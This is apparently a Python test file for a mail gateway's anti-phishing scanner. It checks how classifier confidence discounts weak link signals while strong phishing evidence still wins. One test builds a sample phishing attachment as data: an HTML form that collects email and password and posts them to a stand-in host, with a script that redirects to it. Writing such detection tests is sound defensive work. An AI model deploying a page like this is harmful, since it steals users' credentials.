"""Weak link signals weigh less when the anti-spam classifier, which ran first, finds the wording
legitimate; strong evidence still decides. Run through the real scan pipeline and scanners."""

from __future__ import annotations

from mailgate.config import DnsSettings, GatewayConfig
from mailgate.scan.envelope import Envelope
from mailgate.scan.report import Contribution, ScannerResult
from mailgate.scan.run import scan_message
from mailgate.scanners.registry import build_scanners

from .helpers import context, fired, mail

WEAK_HTML = ('<p>Hi all, the build server moved; the status page is at '
             '<a href="http://203.0.113.9:8080/status">http://203.0.113.9:8080/status</a> until DNS is fixed.</p>')


def classifier(log_odds: float) -> ScannerResult:
    band = "00" if log_odds <= -4 else "50"
    return ScannerResult("antispam", "not_spam", log_odds,
                         (Contribution(f"BAYES_{band}", log_odds, "Statistical classifier", ""),))


def scan_after(log_odds: float | None, message):  # type: ignore[no-untyped-def]
    from dataclasses import replace

    from mailgate.scanners.antiphishing import AntiphishingScanner

    earlier = () if log_odds is None else (classifier(log_odds),)
    return AntiphishingScanner().scan(message, replace(context(), earlier=earlier))


def test_confidently_legitimate_wording_lowers_weak_signals_and_says_why() -> None:
    message = mail("Ops <ops@team.example.net>", "Build server moved", html=WEAK_HTML)
    alone = scan_after(None, message)
    corroborated = scan_after(-9.0, message)
    neutral = scan_after(0.4, message)
    assert "TEXT_LIKE_LEGITIMATE_MAIL" in fired(corroborated)
    assert corroborated.score == alone.score - 2.0
    assert "TEXT_LIKE_LEGITIMATE_MAIL" not in fired(neutral)
    assert neutral.score == alone.score


def test_strong_evidence_is_still_phishing_whatever_the_wording() -> None:
    page = (b"<html><body><form action='https://harvest.example.net/p'>"
            b"<input type='email' name='u'><input type='password' name='p'></form>"
            b"<script>window.location='https://harvest.example.net/'</script></body></html>")
    message = mail("Scanner <scanner@office-docs.example.net>", "Remittance advice",
                   text="Open the attached remittance.", attachment=(page, "remittance.html", "text/html"))
    result = scan_after(-10.0, message)
    assert "TEXT_LIKE_LEGITIMATE_MAIL" in fired(result)
    assert result.verdict == "phishing"


def test_the_pipeline_hands_each_scanner_the_results_before_it() -> None:
    message = mail("Ops <ops@team.example.net>", "Build server moved", html=WEAK_HTML)
    envelope = Envelope(mail_from="ops@team.example.net", recipients=("alice@example.test",),
                        client_ip="192.0.2.25", helo="mail.team.example.net")
    config = GatewayConfig(dns=DnsSettings(no_network=True))
    report = scan_message(message.raw, envelope, build_scanners(config), context(), "m1", None, message)
    antispam, antiphishing = report.result("antispam"), report.result("antiphishing")
    assert antispam is not None and antiphishing is not None
    bayes = next(c for c in antispam.reasons if c.test.startswith("BAYES_"))
    assert ("TEXT_LIKE_LEGITIMATE_MAIL" in fired(antiphishing)) == (bayes.score <= -4.0)
